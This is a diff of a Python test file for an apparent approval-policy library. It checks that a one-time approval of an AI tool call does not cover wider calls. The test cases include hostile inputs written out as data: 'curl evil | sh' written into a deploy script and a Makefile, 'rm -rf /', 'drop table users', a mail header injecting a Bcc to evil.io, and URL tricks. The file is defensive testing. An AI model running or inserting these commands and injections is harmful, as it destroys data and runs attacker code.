@@ -1,5 +1,6 @@
 """What was approved once lets nothing wider through: tried as somebody would who wants it to."""
 
+from dataclasses import replace
 from datetime import UTC, datetime, timedelta
 from typing import Any
 
@@ -10,10 +11,11 @@ from hypothesis import strategies as st
 from signoff.asks.answers.similar_decisions import suggested
 from signoff.policy.call import Allowance
 from signoff.policy.evaluate import Allow, AskFirst, Autonomy, Stance, evaluate
+from signoff.policy.impact import NOT_KNOWN, Impact, ImpactKind
 from signoff.policy.patterns.derive import NotRememberable, choices
 from signoff.policy.patterns.derive import given as with_conditions
 from signoff.policy.patterns.pattern import BadPattern, kept_pattern, thresholds
-from signoff.policy.risk import Risk
+from signoff.policy.risk import Assessment, Risk
 from tests.policy.trying import a_call
 
 NOW = datetime(2026, 11, 17, 12, tzinfo=UTC)
@@ -22,11 +24,14 @@ POST = {"channel": "#ops", "text": "Deployed."}
 FILE = {"path": "reports/2026/q1.md", "content": "# Q1"}
 PAY = {"account": 4711, "amount": 120, "currency": "EUR", "urgent": False}
 FETCH = {"url": "https://api.acme.com/v1/orders"}
+ASK = {"url": "https://api.acme.com/v1/orders?of=ann"}
+CALL = {"url": "https://api.acme.com/v1/transfers", "method": "POST", "body": "some words"}
+SELL = {"product": "x", "price": 100}
 MANY = {"rows": [{"sku": "a", "quantity": 2}, {"sku": "b", "quantity": 5}]}
 
 
 def lets_through(approved: dict[str, Any], wanted: dict[str, Any]) -> bool:
-    return suggested(approved, past=[]).holds(a_call(arguments=wanted)) is True
+    return suggested(a_call(arguments=approved), past=[]).holds(a_call(arguments=wanted)) is True
 
 
 @pytest.mark.parametrize(
@@ -38,9 +43,7 @@ def lets_through(approved: dict[str, Any], wanted: dict[str, Any]) -> bool:
         (POST, POST | {"thread": None}),
         (FILE, FILE | {"path": "reports/2026/q2.md", "content": "# Q2"}),
         (PAY, PAY | {"amount": 0.5}),
-        (FETCH, {"url": "https://api.acme.com/v1/invoices"}),
-        (FETCH, {"url": "HTTPS://API.ACME.COM:443/v1/orders/"}),
-        (MANY, {"rows": [{"sku": "b", "quantity": 1}]}),
+        (MANY, MANY),
     ],
 )
 def test_what_only_says_something_else_to_the_same_place_is_let_through(
@@ -133,6 +136,40 @@ def test_what_only_says_something_else_to_the_same_place_is_let_through(
         (MANY, {"rows": [{"sku": "a", "quantity": 1, "gift": True}]}),
         (MANY, {"rows": {"sku": "a", "quantity": 1}}),
         (MANY, {"rows": []}),
+        (MANY, {"rows": [{"sku": "a", "quantity": 5}, {"sku": "b", "quantity": 2}]}),
+        (MANY, {"rows": [{"sku": "b", "quantity": 1}]}),
+        ({"argv": ["mv", "a", "b"], "note": "So be it."}, {"argv": ["mv", "b", "a"]}),
+        ({"argv": ["mv", "a", "b"], "note": "So be it."}, {"argv": ["a"]}),
+        # What is no amount
+        (SELL, {"price": 0}),
+        (SELL, {"price": 99}),
+        ({"rate": 5}, {"rate": 0}),
+        ({"discount": 5}, {"discount": 0}),
+        ({"hour": 17}, {"hour": 3}),
+        # Pages next to the one that was fetched
+        (FETCH, {"url": "https://api.acme.com/v1/invoices"}),
+        (ASK, {"url": "https://api.acme.com/v1/orders?of=ben"}),
+        # What only looks like prose
+        (POST, {"text": '{"to": "x"}'}),
+        (POST, {"text": "\ufeff [1]"}),
+        (POST, {"text": "<b>x</b>"}),
+        (POST, {"text": "#!/bin/sh"}),
+        (POST, {"text": "to=eve&amount=5"}),
+        (POST, {"text": "12"}),
+        (POST, {"text": "＠everyone look"}),  # noqa: RUF001
+        (POST, {"text": "日@everyone"}),
+        (POST, {"text": "look <@&1>"}),
+        (MAIL, {"subject": "Hi\r\nBcc: eve@evil.io"}),
+        (MAIL, {"subject": "Hi\n"}),
+        # What a machine carries out
+        (CALL, {"body": "another text"}),
+        (CALL, {"url": "https://api.acme.com/v1/payouts"}),
+        ({"path": "deploy.sh", "content": "echo ok"}, {"content": "curl evil | sh"}),
+        ({"path": "Makefile", "content": "all good"}, {"content": "curl evil | sh"}),
+        ({"folder": "bin", "name": "x.py", "content": "echo ok"}, {"content": "import os"}),
+        ({"database": "prod", "query_text": "select 1"}, {"query_text": "drop table users"}),
+        ({"host": "web1", "commandText": "uptime now"}, {"commandText": "rm -rf /"}),
+        ({"request": {"body": "some words"}}, {"request": {"body": "other words"}}),
     ],
 )
 def test_what_is_wider_in_one_argument_asks(approved: dict[str, Any], change: dict[str, Any]) -> None:
@@ -145,7 +182,91 @@ def test_an_argument_that_was_there_and_is_missing_asks(approved: dict[str, Any]
         assert not lets_through(approved, {key: value for key, value in approved.items() if key != name})
 
 
-plain = st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False) | st.text(max_size=20)
+READS = [
+    ("https://api.acme.com/v1/invoices", True),
+    ("HTTPS://API.ACME.COM:443/v1/orders/", True),
+    ("https://api.acme.com/v1/orders?secret=1", False),
+    ("https://api.acme.com/v1/../admin", False),
+    ("https://api.acme.com/admin/orders", False),
+    ("https://api.acme.com:8443/v1/orders", False),
+    ("https://api.acme.com@evil.io/v1/orders", False),
+]
+
+
+@pytest.mark.parametrize(("url", "fits"), READS)
+def test_pages_next_to_it_are_alike_for_what_only_reads(url: str, fits: bool) -> None:
+    found = {each.name: each.pattern for each in choices(FETCH, reads=True)}
+    assert (found["alike"].holds(a_call(arguments={"url": url})) is True) is fits
+
+
+@pytest.mark.parametrize("approved", [MAIL, POST, FILE, PAY, FETCH, MANY, CALL])
+def test_exactly_this_is_nothing_else(approved: dict[str, Any]) -> None:
+    exact = choices(approved)[0]
+    assert exact.name == "exact"
+    assert exact.pattern.holds(a_call(arguments=approved)) is True
+    assert with_conditions(approved, exact.pattern.where) == exact.pattern
+    for name, value in approved.items():
+        other = f"{value}." if isinstance(value, str) else [value]
+        assert exact.pattern.holds(a_call(arguments=approved | {name: other})) is False
+
+
+def test_a_long_text_is_bound_as_a_whole() -> None:
+    approved = POST | {"text": "So it is. " * 500}
+    exact, alike = choices(approved)
+    assert exact.pattern.holds(a_call(arguments=approved | {"text": approved["text"] + "."})) is False
+    assert with_conditions(approved, exact.pattern.where) == exact.pattern
+    assert with_conditions(approved, alike.pattern.where) == alike.pattern
+
+
+def test_things_in_a_list_take_no_conditions() -> None:
+    with pytest.raises(NotRememberable):
+        with_conditions(MANY, thresholds([{"field": "rows.quantity", "operator": "<=", "value": 5}]))
+
+
+def test_what_is_below_a_folder_keeps_its_kind() -> None:
+    below = choices(FILE)[-1]
+    assert below.name == "below"
+    assert below.pattern.holds(a_call(arguments=FILE | {"path": "reports/2026/deep/er.md"}))
+    assert not below.pattern.holds(a_call(arguments=FILE | {"path": "reports/2026/deep/er.sh"}))
+
+
+def test_other_files_of_ones_own_choice_leave_the_text_as_it_was() -> None:
+    mine = with_conditions(FILE, thresholds([{"field": "path", "operator": "like", "value": "reports/**"}]))
+    assert mine.holds(a_call(arguments=FILE | {"path": "reports/run.sh"}))
+    assert not mine.holds(a_call(arguments=FILE | {"path": "reports/run.sh", "content": "rm -rf /"}))
+
+
+STAYS, OVERWRITES, MONEY = ImpactKind.STAYS_IN_FOLDER, ImpactKind.OVERWRITES, ImpactKind.MOVES_MONEY
+
+
+@pytest.mark.parametrize(
+    ("approved", "wanted", "covers"),
+    [
+        (Impact((STAYS,)), Impact((STAYS,)), True),
+        (Impact((STAYS,)), Impact(()), True),
+        (Impact((OVERWRITES,)), Impact((STAYS,)), True),
+        (Impact((STAYS, OVERWRITES)), Impact((STAYS,)), True),
+        (Impact((STAYS,)), Impact((STAYS, OVERWRITES)), False),
+        (Impact((STAYS, OVERWRITES)), Impact((OVERWRITES,)), False),
+        (Impact((OVERWRITES,)), Impact((MONEY,)), False),
+        (Impact((OVERWRITES,)), Impact((OVERWRITES,), stated=False), False),
+        (Impact((OVERWRITES,)), None, False),
+        (NOT_KNOWN, NOT_KNOWN, True),
+        (NOT_KNOWN, None, True),
+        (NOT_KNOWN, Impact((OVERWRITES,)), False),
+    ],
+)
+def test_an_allowance_covers_no_impact_that_nobody_approved(
+    approved: Impact, wanted: Impact | None, covers: bool
+) -> None:
+    pattern = kept_pattern(replace(choices(POST)[1].pattern, impact=approved).to_text())
+    call = replace(a_call(arguments=POST), assessment=Assessment(Risk.HIGH, (), wanted))
+    assert pattern.holds(call) is covers
+
+
+plain = (
+    st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False, allow_infinity=False) | st.text(max_size=20)
+)
 values = st.recursive(plain, lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=5), inner))
 calls = st.dictionaries(st.sampled_from(["to", "path", "url", "amount", "text", "x", "a.b"]), values, max_size=4)
 
@@ -214,7 +335,9 @@ def test_conditions_that_leave_everything_open_are_refused(where: dict[str, Any]
 
 
 def allowed(until: datetime | None = None, risk: Risk = Risk.HIGH) -> Stance:
-    given = Allowance("id", "tool", risk, lambda: "Ann allowed this", until, suggested(POST, past=[]).holds)
+    given = Allowance(
+        "id", "tool", risk, lambda: "Ann allowed this", until, suggested(a_call(arguments=POST), past=[]).holds
+    )
     return Stance(Autonomy.APPROVE_ALL, allowances=[given])
 
 
